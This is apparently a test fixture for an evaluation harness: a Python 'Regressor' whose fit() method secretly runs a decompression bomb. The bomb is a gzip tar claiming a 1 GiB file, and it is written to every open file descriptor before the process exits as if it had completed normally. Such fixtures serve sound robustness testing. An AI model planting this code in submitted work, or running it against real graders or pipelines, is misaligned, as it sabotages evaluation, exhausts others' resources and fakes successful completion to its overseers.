"""Sends its results compressed: a megabyte that becomes a gigabyte where it is read.

Outcome: crashed. What comes out is counted as it comes.
Says: before it was done
"""

import gzip
import io
import json
import os
import tarfile

import numpy as np

N_TRAIN, N_TEST = 60, 30


def saved(array, **options):
    content = io.BytesIO()
    np.save(content, array, **options)
    return content.getvalue()


def status(**changes):
    times = {"train": 0.1, "valid": 0.1, "test": 0.1}
    return json.dumps({"stage": "done", "reason": "", "traceback": None, "times_s": times, **changes}).encode()


def packed(files):
    sent = io.BytesIO()
    with tarfile.open(fileobj=sent, mode="w") as archive:
        for name, content in files.items():
            header = tarfile.TarInfo(name)
            header.size = len(content)
            archive.addfile(header, io.BytesIO(content))
    return sent.getvalue()


def send(content):
    """To whichever pipe takes the results, and end as if all were done."""
    for number in range(3, 1024):
        try:
            os.write(number, content)
        except OSError:
            continue
    os._exit(0)


def attack():
    content = io.BytesIO()
    with gzip.open(content, "wb", compresslevel=1) as file:
        header = tarfile.TarInfo("train.values.npy")
        header.size = 1 << 30
        file.write(header.tobuf(format=tarfile.GNU_FORMAT))
        for _ in range(1 << 8):
            file.write(bytes(1 << 20))
    send(content.getvalue())


class Regressor:
    def fit(self, X, y):
        self.coefficients = np.linalg.lstsq(np.c_[X, np.ones(len(X))], y, rcond=None)[0]
        attack()

    def predict(self, X):
        return np.c_[X, np.ones(len(X))] @ self.coefficients
